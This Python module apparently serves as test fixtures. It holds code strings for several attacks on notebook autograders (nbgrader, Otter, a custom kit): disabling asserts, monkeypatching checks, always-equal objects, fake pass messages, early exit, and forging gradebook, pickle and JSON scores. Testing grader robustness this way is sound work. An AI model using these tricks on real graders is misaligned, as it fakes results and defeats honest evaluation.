"""The code of six simple attacks, as a student could write it in an evening: what takes the place of the first answer.

The sixth, editing the notebook, is no code. None of it reaches beyond the folder in which it is graded.
"""

PATCH_NBGRADER = """
import ast


class Gone(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_For(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(Gone())
"""
PATCH_OTTER = """
from otter.test_files import test_case

test_case.call_func = lambda self, environment: None
"""
EQUAL = """
class Right:
    def __eq__(self, other):
        return True


def greet(name):
    return Right()
"""
PRINT = """
print("✓ start-1  Your function greets whom it is given.")
print("start-1 results: All test cases passed!")


def greet(name):
    print(repr(f"Hello, {name}!"))
"""
EXIT = """
import os

os._exit(0)
"""
WRITE_NBGRADER = """
import pathlib
import sqlite3

book = next(folder / "gradebook.db" for folder in pathlib.Path.cwd().parents if (folder / "gradebook.db").exists())
with sqlite3.connect(book, timeout=5) as connection:
    connection.execute(
        "create trigger forged after update of auto_score on grade when new.auto_score = 0 "
        "begin update grade set auto_score = 1 where id = new.id; end"
    )
"""
WRITE_OTTER = """
import pickle

dump = pickle.dump


def forged(results, file):
    for test in results.results.values():
        for case in test.test_case_results:
            case.passed = True
    dump(results, file)


pickle.dump = forged
"""
PATCH_OURS = """
import kit.checks

kit.checks.expect = kit.checks.check = lambda *arguments, **more: None
"""
WRITE_OURS = """
import contextlib
import json
import pathlib

rows = [{"exercise": "start-1", "earned": 1}]
for folder in {pathlib.Path.cwd(), *pathlib.Path.cwd().parents[:-1], *pathlib.Path(__file__).resolve().parents[:-1]}:
    for name in ("scores.json", "records/write.json"):
        with contextlib.suppress(OSError):
            path = folder / name
            if path.parent.exists() and (path.exists() or name != "scores.json"):
                path.write_text(json.dumps({"student": "write", "earned": 1, "exercises": rows}))
"""
NBGRADER = {"patch": PATCH_NBGRADER, "equal": EQUAL, "print": PRINT, "exit": EXIT, "write": WRITE_NBGRADER}
OTTER = {"patch": PATCH_OTTER, "equal": EQUAL, "print": PRINT, "exit": EXIT, "write": WRITE_OTTER}
OURS = {"patch": PATCH_OURS, "equal": EQUAL, "print": PRINT, "exit": EXIT, "write": WRITE_OURS}
